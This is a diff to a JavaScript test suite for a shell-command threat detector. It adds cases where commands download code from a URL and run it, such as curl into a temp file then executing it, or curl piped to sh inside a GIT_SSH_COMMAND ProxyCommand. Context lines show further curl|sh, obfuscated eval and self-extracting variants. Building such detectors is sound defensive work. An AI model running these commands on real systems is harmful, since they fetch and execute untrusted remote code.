@@ -17,6 +17,12 @@ describe('a POSIX shell', () => {
     ['threat.download-and-run', `docker exec box sh -c 'curl ${url} | sh'`],
     ['threat.download-and-run', `echo 'curl ${url} | sh' | at now + 5 minutes`],
     ['threat.download-and-run', `git -c 'core.fsmonitor=curl ${url} | sh' status`],
+    [
+      'threat.download-and-run',
+      `T=$(mktemp -d)\ncurl -so "$T/agent" ${url}\nchmod +x "$T/agent"\n"$T/agent" &`,
+    ],
+    ['threat.download-and-run', `curl -so "$DIR/a" ${url}; sh "$DIR/a"`],
+    ['threat.download-and-run', `export GIT_SSH_COMMAND="ssh -o ProxyCommand='curl ${url} | sh'"`],
     ['threat.encoded-command', "eval $'\\x65\\x63\\x68\\x6f\\x20\\x68'"],
     ['threat.encoded-command', 'tail -n 3 $0 | xz -d | bash'],
     [
@@ -58,6 +64,7 @@ describe('a POSIX shell', () => {
     'find . -name "*.pyc" -exec rm {} +',
     'ufw allow 22; systemctl stop nginx',
     'zcat dump.sql.gz | psql',
+    `curl -so "$A/x" https://files.example.invalid/x; sh "$B/x"`,
   ])('finds nothing in %s', (text) => {
     expect(namesOf(text).filter((name) => !name.startsWith('capability.'))).toEqual([])
   })
